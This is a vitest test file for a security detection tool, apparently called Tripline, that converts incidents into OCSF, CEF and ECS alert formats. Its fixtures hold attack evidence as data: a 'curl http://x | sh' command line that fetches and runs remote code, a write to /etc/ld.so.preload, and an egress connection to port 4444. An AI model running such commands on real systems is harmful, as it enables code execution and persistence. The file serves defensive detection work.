import { describe, expect, it } from 'vitest';
import { cefLine, escapeCefHeader, escapeCefValue } from '../../../../collector/sinks/formats/cef.js';
import { toEcsDocument } from '../../../../collector/sinks/formats/ecs.js';
import { mitreTactic, PRODUCT, toOcsfDetectionFinding } from '../../../../collector/sinks/formats/ocsf.js';
import { connectIncident, execIncident, fileIncident } from '../../../integration/sinks/incident-fixture.js';

describe('OCSF Detection Finding', () => {
  it('maps a first report to class 2004 Create with severity, finding_info and metadata', () => {
    const f = toOcsfDetectionFinding(execIncident());
    expect(f).toMatchObject({
      class_uid: 2004,
      category_uid: 2,
      activity_id: 1,
      type_uid: 200401,
      severity_id: 4,
      severity: 'High',
      time: execIncident().lastSeenMs,
      count: 3,
      metadata: {
        uid: 'inc-unexpected-exec-0001:1',
        product: { name: 'Tripline', vendor_name: 'Tripline', version: PRODUCT.version },
      },
      finding_info: {
        uid: 'inc-unexpected-exec-0001',
        title: 'Unexpected executable /bin/sh in payments/checkout (api)',
        types: ['unexpected-exec'],
        analytic: { uid: 'unexpected-exec', type_id: 2, type: 'Behavioral' },
        attacks: [{ technique: { uid: 'T1059' }, tactic: { uid: 'TA0002', name: 'Execution' } }],
      },
      resources: [
        {
          uid: 'prod-eu/payments/Deployment/checkout/api',
          name: 'checkout',
          type: 'Deployment',
          namespace: 'payments',
        },
      ],
      evidences: [
        {
          process: {
            pid: 3120,
            cmd_line: 'sh -c curl http://x | sh',
            file: { path: '/bin/sh', name: 'sh' },
            parent_process: { pid: 3001 },
          },
        },
      ],
    });
    expect(PRODUCT.version).toMatch(/^\d+\.\d+\.\d+/);
  });

  it('marks later revisions as Update and maps each evidence kind to its OCSF object', () => {
    const update = toOcsfDetectionFinding(fileIncident({ revision: 3 }));
    expect(update).toMatchObject({ activity_id: 2, type_uid: 200402, severity_id: 5 });
    expect((update.evidences as Record<string, unknown>[])[0]).toMatchObject({
      file: { path: '/etc/ld.so.preload', name: 'ld.so.preload' },
    });
    const egress = toOcsfDetectionFinding(connectIncident());
    expect((egress.evidences as Record<string, unknown>[])[0]).toMatchObject({
      dst_endpoint: { ip: '203.0.113.9', port: 4444 },
      connection_info: { protocol_name: 'tcp', direction_id: 2 },
      container: { uid: '0123abcd', image: { name: 'registry.example/checkout:1.4.2' } },
    });
  });

  it('does not pair techniques with tactics when a rule names several tactics', () => {
    const f = toOcsfDetectionFinding(
      execIncident({ mitreTechniques: ['T1059', 'T1204'], mitreTactics: ['execution', 'persistence'] }),
    );
    expect((f.finding_info as { attacks: unknown[] }).attacks).toEqual([
      { technique: { uid: 'T1059' } },
      { technique: { uid: 'T1204' } },
      { tactic: { uid: 'TA0002', name: 'Execution' } },
      { tactic: { uid: 'TA0003', name: 'Persistence' } },
    ]);
  });

  it('recognises tactic names in any common spelling', () => {
    expect(mitreTactic('privilege-escalation')).toEqual({ id: 'TA0004', name: 'Privilege Escalation' });
    expect(mitreTactic('Command_and_Control')).toEqual({ id: 'TA0011', name: 'Command and Control' });
    expect(mitreTactic('made-up')).toEqual({ id: undefined, name: 'made-up' });
  });
});

describe('CEF', () => {
  it('escapes header and extension values as the CEF specification requires', () => {
    expect(escapeCefHeader('a|b\\c\nd')).toBe('a\\|b\\\\c d');
    expect(escapeCefValue('k=v\\x\r\ny|z')).toBe('k\\=v\\\\x\\r\\ny|z');
  });

  it('builds a header with rule, summary and severity 0-10, and standard extension keys', () => {
    const line = cefLine(fileIncident({ summary: 'write | to /etc' }));
    expect(
      line.startsWith(`CEF:0|Tripline|Tripline|${PRODUCT.version}|protected-path-write|write \\| to /etc|10|`),
    ).toBe(true);
    expect(line).toContain(' filePath=/etc/ld.so.preload fname=ld.so.preload ');
    expect(line).toContain(`rt=${fileIncident().lastSeenMs} `);
    expect(line).toContain('cn1Label=score cn1=95');
    expect(line).toContain('flexString1Label=containerId flexString1=0123abcd');
    expect(line).not.toMatch(/[\r\n]/);
  });
});

describe('ECS', () => {
  it('categorises each evidence kind and fills the ECS fields for it', () => {
    expect(toEcsDocument(execIncident())).toMatchObject({
      event: { kind: 'alert', category: ['intrusion_detection', 'process'], type: ['start', 'info'], severity: 4 },
      process: { working_directory: '/app', command_line: 'sh -c curl http://x | sh' },
    });
    expect(toEcsDocument(fileIncident())).toMatchObject({
      event: { category: ['intrusion_detection', 'file'], type: ['creation', 'info'] },
    });
    expect(toEcsDocument(connectIncident())).toMatchObject({
      network: { transport: 'tcp', direction: 'egress' },
      destination: { ip: '203.0.113.9', port: 4444 },
    });
  });

  it('leaves orchestrator fields out off Kubernetes', () => {
    const w = { cluster: 'local', namespace: '', kind: 'cgroup', name: 'system.slice/nginx.service', container: '' };
    const doc = toEcsDocument(execIncident({ workload: w, workloadKey: 'local//cgroup/system.slice/nginx.service/' }));
    expect(doc.orchestrator).toBeUndefined();
    expect(doc.tripline).toMatchObject({ workload: { name: 'system.slice/nginx.service' } });
  });
});
